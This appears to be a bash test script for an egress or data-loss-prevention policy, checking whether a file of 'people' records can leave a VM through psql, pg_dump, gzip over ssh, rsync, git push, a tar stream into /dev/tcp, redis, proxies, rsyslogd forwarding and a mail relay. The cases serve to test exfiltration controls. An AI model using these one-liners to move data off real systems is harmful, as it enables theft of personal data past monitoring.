#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# Real programs carry the data from holder to holder and out
#
# run-long:
#
#	FILE -> psql -> PostgreSQL -> psql, pg_dump -> curl --+
#	FILE -> cp -> gzip -> ssh ----------------------------+    /--> cn, dc
#	FILE -> git, rsync, tar ------------------------------+ VM-+
#	FILE -> redis-cli -> redis -> redis-cli -> curl ------+    \-x  us
#	FILE -> curl -> proxy, mail relay --------------------+
#	FILE -> logger -> rsyslogd ---------------------------+
#
# Rows 16, 17, 21, 22 and 25 of the ways out, by programs as they come with
# Debian. What counts is what the far end has decoded: see lib/far.
. "$(dirname "$0")/lib/case.sh"
. "$(dirname "$0")/lib/services.sh"

start_far cn us dc
start_databases
start_redis
start_proxies
start_relays
start_web

# PostgreSQL. The tables were filled by \copy.
psql_pipe() { query "TABLE people" | send -; }
dump_custom() { local d; d=$(scratch); dump -Fc -f "$d/dump"; send "$d/dump"; }
in_tree() { TREE=1 query "TABLE people" | send -; }

deny "psql, into a pipe" psql_pipe
deny "pg_dump, into a file" dump_custom
deny "a data directory in the tree, psql" in_tree
USERS=user allow "psql" psql_pipe
USERS=root allow "pg_dump" dump_custom

# What is on the wire of ssh nobody can read: the far end's file counts.
gzip_ssh()
{
	local d
	d=$(scratch)

	cp "$FILE" "$d/x"
	gzip -c "$d/x" | far_ssh "cat >\$FAR/$RANDOM$RANDOM.gz"
}
deny "cp, gzip, ssh" gzip_ssh
USERS=user allow "cp, gzip, ssh" gzip_ssh

# rsync
rsync_daemon() { rsync "$FILE" "$TO::far/$RANDOM$RANDOM.csv"; }
deny "rsync to a daemon" rsync_daemon
USERS=root allow "rsync to a daemon" rsync_daemon

# git: one process writes the object, another packs it, a third sends.
git_daemon()
{
	committed && git push -q "git://$TO/people.git" "HEAD:refs/heads/$RANDOM$RANDOM"
}
deny "git push to a daemon" git_daemon
USERS=user allow "git push to a daemon" git_daemon

# tar, and a shell that sends
tar_shell() { tar -czf - -C / "${FILE#/}" | (cat >"/dev/tcp/$(address "$TO" 4)/9000"); }
deny "tar into a shell's socket" tar_shell
USERS=user allow "tar into a shell's socket" tar_shell

# redis: one client gives it the file, another gets it.
redis_set() { (redis -x SET people <"$FILE") && redis GET people | send -; }
redis_held() { redis GET held | send -; }
deny "redis, SET and GET" redis_set
USERS=user deny "redis, GET of what it holds" redis_held
USERS=user allow "redis, SET and GET" redis_set

# Proxies on the host itself
deny "a SOCKS proxy" by_proxy socks5://127.0.0.1 1080
deny "an HTTP proxy" by_proxy http://127.0.0.1 8888
USERS=user allow "a SOCKS proxy" by_proxy socks5://127.0.0.1 1080
USERS=user allow "an HTTP proxy" by_proxy http://127.0.0.1 8888

# nginx in front of an application in Python: who asks is abroad.
asked() { world on "$TO" curl -sS -m 5 "http://$HOST4:$(port 8080)/people.csv"; }
USERS=root deny "nginx and an application, asked from abroad" asked
USERS=root allow "nginx and an application, asked from there" asked

# rsyslogd forwards what logger is given to the host that is the tag.
logged()
{
	local end=end-$RANDOM$RANDOM

	logger -u "$SERVICES/log-$(port 514)" -t "$TO" -f "$FILE" &&
	logger -u "$SERVICES/log-$(port 514)" -t "$end" end &&
	wait_until grep -q "$end" "$SERVICES/logged-$(port 514)"
}
deny "logger and rsyslogd" logged
USERS=user allow "logger and rsyslogd" logged

# A mail relay sends to the host that is the sender's domain.
mailed()
{
	curl -sS -m 15 "smtp://127.0.0.1:$(port 2525)" --mail-from "vm@$TO" \
		--mail-rcpt "people@$TO" -T "$FILE"
}
deny "a mail relay" mailed
USERS=user allow "a mail relay" mailed
